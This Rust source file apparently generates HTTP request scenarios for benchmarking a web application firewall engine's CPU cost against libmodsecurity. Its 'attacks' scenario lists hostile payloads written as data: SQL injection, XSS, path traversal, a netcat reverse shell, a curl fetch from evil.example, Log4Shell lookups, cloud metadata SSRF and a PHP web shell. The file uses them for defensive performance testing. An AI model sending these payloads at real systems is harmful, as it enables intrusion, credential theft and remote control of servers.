//! The requests that engines are given.
//!
//! They are written into one file that a driver in any language reads with little code:
//!
//! ```text
//! scenario NAME REQUESTS
//! request METHOD VERSION HEADERS BODY-BYTES
//! URI
//! NAME: VALUE          as many lines as there are headers
//! BODY                 as many bytes as announced, and a line feed
//! ```

use std::{fmt::Write as _, io};

/// Requests of one kind.
#[derive(Clone, Debug)]
pub struct Scenario {
    /// Name, without spaces.
    pub name: &'static str,
    /// What it is, for the report.
    pub what: &'static str,
    /// Times less CPU than libmodsecurity that are aimed at.
    pub target: f64,
    /// One after the other.
    pub requests: Vec<Request>,
}

/// One request.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Request {
    /// Method.
    pub method: String,
    /// Target in origin form.
    pub uri: String,
    /// Fields in order.
    pub headers: Vec<(String, String)>,
    /// Body, empty for none.
    pub body: Vec<u8>,
}

const VERSION: &str = "HTTP/1.1";

impl Request {
    fn new(method: &str, uri: &str) -> Self {
        let headers = [
            ("Host", "shop.example.com"),
            (
                "User-Agent",
                "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
            ),
            (
                "Accept",
                "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
            ),
        ];
        let owned = |(name, value): (&str, &str)| (name.to_owned(), value.to_owned());
        Self {
            method: method.into(),
            uri: uri.into(),
            headers: headers.map(owned).to_vec(),
            body: Vec::new(),
        }
    }

    fn header(mut self, name: &str, value: &str) -> Self {
        self.headers.push((name.into(), value.into()));
        self
    }

    fn body(self, content_type: &str, body: impl Into<Vec<u8>>) -> Self {
        let body = body.into();
        let length = body.len().to_string();
        let mut with = self
            .header("Content-Type", content_type)
            .header("Content-Length", &length);
        with.body = body;
        with
    }
}

/// All scenarios.
pub fn scenarios() -> Vec<Scenario> {
    let one = |name, what, target, request| Scenario {
        name,
        what,
        target,
        requests: vec![request],
    };
    vec![
        one(
            "browser-get",
            "GET of a browser: 12 headers, 5 cookies, 4 arguments",
            20.0,
            browser_get(),
        ),
        one("form", "form of 20 fields", 20.0, form()),
        one("json-100", "4 KiB of JSON with 100 values", 50.0, json(100)),
        one("json-400", "4 KiB of JSON with 400 values", 50.0, json(400)),
        one("upload", "multipart upload of 1 MiB", 30.0, upload()),
        Scenario {
            name: "attacks",
            what: "a mix of attacks",
            target: 15.0,
            requests: attacks(),
        },
    ]
}

/// Forms of more and more arguments, and JSON with a longer and longer text: for what is
/// linear, four times as much of it costs four times as much.
pub fn growing() -> Vec<(Scenario, usize)> {
    let scenario = |name, what, amount, request| {
        let requests = vec![request];
        let target = 0.0;
        let scenario = Scenario {
            name,
            what,
            target,
            requests,
        };
        (scenario, amount)
    };
    let arguments = [
        ("arguments-10", 10),
        ("arguments-100", 100),
        ("arguments-1000", 1000),
        ("arguments-10000", 10_000),
    ];
    let arguments =
        arguments.map(|(name, count)| scenario(name, "argument", count, arguments_of(count)));
    let bytes = [
        ("body-1KiB", 1),
        ("body-16KiB", 16),
        ("body-128KiB", 128),
        ("body-1MiB", 1 << 10),
        ("body-8MiB", 8 << 10),
    ];
    let bytes = bytes.map(|(name, kib)| scenario(name, "KiB", kib, text_of(kib << 10)));
    arguments.into_iter().chain(bytes).collect()
}

fn arguments_of(count: usize) -> Request {
    let fields = (0..count).map(|n| format!("field{n}=some+text+{n}"));
    let body = fields.collect::<Vec<_>>().join("&");
    Request::new("POST", "/import").body("application/x-www-form-urlencoded", body)
}

fn text_of(bytes: usize) -> Request {
    let text = "The parcel is with the neighbours. ".repeat(bytes / 35 + 1);
    let body = format!("{{\"text\":\"{}\"}}", &text[..bytes]);
    Request::new("POST", "/notes").body("application/json", body)
}

fn browser_get() -> Request {
    Request::new(
        "GET",
        "/search?q=garden+furniture&category=outdoor%20living&page=2&sort=price_asc",
    )
    .header("Accept-Language", "en-GB,en;q=0.8,de;q=0.5")
    .header("Accept-Encoding", "gzip, deflate, br, zstd")
    .header("Referer", "https://shop.example.com/garden/chairs?page=1")
    .header("Connection", "keep-alive")
    .header(
        "Cookie",
        "session=9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c; _ga=GA1.1.1284.1700000000; theme=dark; cart=3f2b-77; consent=functional%2Canalytics",
    )
    .header("Upgrade-Insecure-Requests", "1")
    .header("Sec-Fetch-Dest", "document")
    .header("Sec-Fetch-Mode", "navigate")
    .header("Sec-Fetch-Site", "same-origin")
}

fn form() -> Request {
    const VALUES: [&str; 5] = [
        "Margarete",
        "Sample Street 12",
        "please leave the parcel next door",
        "m.sample@mail.example",
        "2026-03-14",
    ];
    let fields = (0..20).map(|n| {
        let value = VALUES[n % VALUES.len()]
            .replace(' ', "+")
            .replace('@', "%40");
        format!("field{n}={value}")
    });
    let body = fields.collect::<Vec<_>>().join("&");
    Request::new("POST", "/checkout").body("application/x-www-form-urlencoded", body)
}

/// JSON of about 4 KiB whatever the number of values.
fn json(values: usize) -> Request {
    const WORDS: [&str; 6] = ["oak", "table", "delivered", "green", "monday", "invoice"];
    let length = 4096 / values;
    let items = (0..values).map(|n| {
        let mut item = format!("\"k{n}\":\"");
        while item.len() + 2 < length {
            let _ = write!(item, "{} ", WORDS[(n + item.len()) % WORDS.len()]);
        }
        item.truncate((length - 2).max(format!("\"k{n}\":\"").len()));
        item + "\""
    });
    let body = format!("{{{}}}", items.collect::<Vec<_>>().join(","));
    Request::new("POST", "/api/orders").body("application/json", body)
}

fn upload() -> Request {
    const BOUNDARY: &str = "----portcullis7d94f1";
    let mut body = Vec::with_capacity(1 << 20);
    for (name, value) in [("title", "Summer 2026"), ("album", "garden")] {
        body.extend_from_slice(
            format!(
                "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n"
            )
            .as_bytes(),
        );
    }
    body.extend_from_slice(
        format!(
            "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"chair.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n"
        )
        .as_bytes(),
    );
    // Noise as of a compressed picture, the same in each run.
    let mut state = 0x2545_f491_u32;
    while body.len() < (1 << 20) - 64 {
        state ^= state << 13;
        state ^= state >> 17;
        state ^= state << 5;
        body.extend_from_slice(&state.to_le_bytes());
    }
    body.extend_from_slice(format!("\r\n--{BOUNDARY}--\r\n").as_bytes());
    Request::new("POST", "/photos").body(&format!("multipart/form-data; boundary={BOUNDARY}"), body)
}

/// Attacks as scanners and people send them, each in one place of a request.
fn attacks() -> Vec<Request> {
    let get = |query: &str| Request::new("GET", &format!("/item?{query}"));
    let mut requests: Vec<Request> = [
        "id=1%27%20OR%20%271%27%3D%271",
        "id=1+UNION+SELECT+username,password+FROM+users--",
        "id=1;SELECT+pg_sleep(10)",
        "id=%27;+DROP+TABLE+users;+--",
        "q=%3Cscript%3Ealert(1)%3C/script%3E",
        "q=%22%3E%3Cimg+src%3Dx+onerror%3Dalert(document.cookie)%3E",
        "q=javascript:alert(1)",
        "q=%3Csvg/onload%3Dalert(1)%3E",
        "file=../../../../etc/passwd",
        "file=..%2f..%2f..%2fwindows%2fwin.ini",
        "file=php://filter/convert.base64-encode/resource%3Dindex.php",
        "host=;cat+/etc/passwd",
        "host=%7Cnc+-e+/bin/sh+192.0.2.9+4444",
        "host=$(curl+http://evil.example/x.sh)",
        "url=http://169.254.169.254/latest/meta-data/",
        "name=%7B%7B7*7%7D%7D",
        "x=${jndi:ldap://evil.example/a}",
        "page=http://evil.example/shell.txt%3F",
        "c=%3C%3Fphp+system($_GET%5B0%5D)%3B%3F%3E",
        "a=O:8:%22stdClass%22:0:%7B%7D",
    ]
    .map(get)
    .to_vec();
    requests.push(
        Request::new("GET", "/")
            .header("X-Api-Version", "${jndi:rmi://evil.example/obj}")
            .header("Cookie", "id=1' AND SLEEP(5)#"),
    );
    requests.push(Request::new("GET", "/.git/config"));
    requests.push(Request::new("GET", "/cgi-bin/test").header("X-Test", "() { :;}; /bin/id"));
    let form = "application/x-www-form-urlencoded";
    requests.push(Request::new("POST", "/login").body(form, "user=admin'--&password=x"));
    requests.push(
        Request::new("POST", "/comment").body(form, "text=%3Ciframe+src%3Djavascript:alert(1)%3E"),
    );
    requests.push(Request::new("POST", "/api").body(
        "application/json",
        r#"{"filter":{"$where":"sleep(1000)"},"name":"1' OR 1=1 -- "}"#,
    ));
    requests
}

/// Writes scenarios as drivers read them.
///
/// # Errors
/// When the file cannot be written.
pub fn write(scenarios: &[Scenario], out: &mut impl io::Write) -> io::Result<()> {
    for Scenario { name, requests, .. } in scenarios {
        writeln!(out, "scenario {name} {}", requests.len())?;
        for request in requests {
            let Request {
                method,
                uri,
                headers,
                body,
            } = request;
            let (count, length) = (headers.len(), body.len());
            writeln!(out, "request {method} {VERSION} {count} {length}")?;
            writeln!(out, "{uri}")?;
            for (name, value) in headers {
                writeln!(out, "{name}: {value}")?;
            }
            out.write_all(body)?;
            writeln!(out)?;
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_scenarios_are_what_they_are_called() {
        let scenarios = scenarios();
        let of = |name| &scenarios.iter().find(|s| s.name == name).unwrap().requests[0];
        let get = of("browser-get");
        assert_eq!(get.headers.len(), 12);
        let cookie = get.headers.iter().find(|(name, _)| name == "Cookie");
        assert_eq!(cookie.unwrap().1.split("; ").count(), 5);
        assert_eq!(get.uri.matches('=').count(), 4);
        assert_eq!(of("form").body.split(|&b| b == b'&').count(), 20);
        for (name, values) in [("json-100", 100), ("json-400", 400)] {
            let value: serde_json::Value = serde_json::from_slice(&of(name).body).unwrap();
            assert_eq!(value.as_object().unwrap().len(), values);
            let length = of(name).body.len();
            assert!((3500..6000).contains(&length), "{name}: {length}");
        }
        let upload = of("upload").body.len();
        assert!((1_040_000..1_060_000).contains(&upload), "{upload}");
    }

    #[test]
    fn a_request_is_written_with_its_numbers() {
        let scenario = Scenario {
            name: "one",
            what: "",
            target: 1.0,
            requests: vec![Request {
                method: "POST".into(),
                uri: "/a".into(),
                headers: vec![("Host".into(), "b".into())],
                body: b"x\ny".to_vec(),
            }],
        };
        let mut out = Vec::new();
        write(&[scenario], &mut out).unwrap();
        assert_eq!(
            String::from_utf8(out).unwrap(),
            "scenario one 1\nrequest POST HTTP/1.1 1 3\n/a\nHost: b\nx\ny\n"
        );
    }
}
